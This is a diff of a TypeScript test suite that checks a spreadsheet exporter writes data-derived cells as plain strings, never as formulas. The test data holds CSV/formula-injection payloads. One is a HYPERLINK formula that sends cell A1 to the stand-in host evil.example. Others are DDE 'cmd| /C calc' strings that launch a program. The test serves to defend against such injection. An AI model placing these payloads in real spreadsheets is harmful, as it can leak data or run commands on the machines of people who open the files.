@@ -15,7 +15,7 @@ import {
   sheetRows,
   shown,
 } from '../../test/support/exporter.ts';
-import { createGoldTables, seedGold } from '../../test/support/gold.ts';
+import { createGoldTables, reserveCcassChanges, seedGold } from '../../test/support/gold.ts';
 import { freshDatabase, testDir } from '../../test/support/infra.ts';
 import { SHEET_COLUMNS, safeText, stockSheetName, writeWorkbook } from '../gold/index.ts';
 import { createHealthRegistry, createRegistry, silentLogger } from '../runtime/index.ts';
@@ -438,11 +438,20 @@ describe('formula injection', () => {
   it('writes text cells from data as inline strings shown as given, never formulas (= + - @)', async () => {
     const evilName = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
     await copyStock('08888', evilName);
-    await db.pool.query(
-      `insert into gold.ccass_changes select '08888', holding_date, prev_holding_date, participant_key, participant_id,
-         case participant_key when 'C00019' then '+cmd|'' /C calc''!A0' when 'C00010' then '@SUM(1+1)*cmd|'' /C calc''!A0'
-              when 'C00039' then '-2+3+cmd|'' /C calc''!A0' else participant_name end,
-         shareholding, prev_shareholding, change_shares, change_pct_issued, kind from gold.ccass_changes where code = '00700'`,
+    // CCASS is served per set (gold.ccass_changes is a view): re-serve 00700's dates with 08888 added.
+    const { rows: dates } = await db.pool.query<{ d: string }>(
+      `select holding_date::text as d from gold.ccass_change_sets where code = '00700'`,
+    );
+    await reserveCcassChanges(
+      db.pool,
+      dates.map((r) => r.d),
+      (client, stage) =>
+        client.query(
+          `insert into ${stage} select '08888', holding_date, prev_holding_date, participant_key, participant_id,
+             case participant_key when 'C00019' then '+cmd|'' /C calc''!A0' when 'C00010' then '@SUM(1+1)*cmd|'' /C calc''!A0'
+                  when 'C00039' then '-2+3+cmd|'' /C calc''!A0' else participant_name end,
+             shareholding, prev_shareholding, kind, issued_shares from ${stage} where code = '00700'`,
+        ),
     );
     await db.pool.query(
       `insert into gold.ccass_concentration select '08888', holding_date, issued_shares, participants, top5_pct, top10_pct,
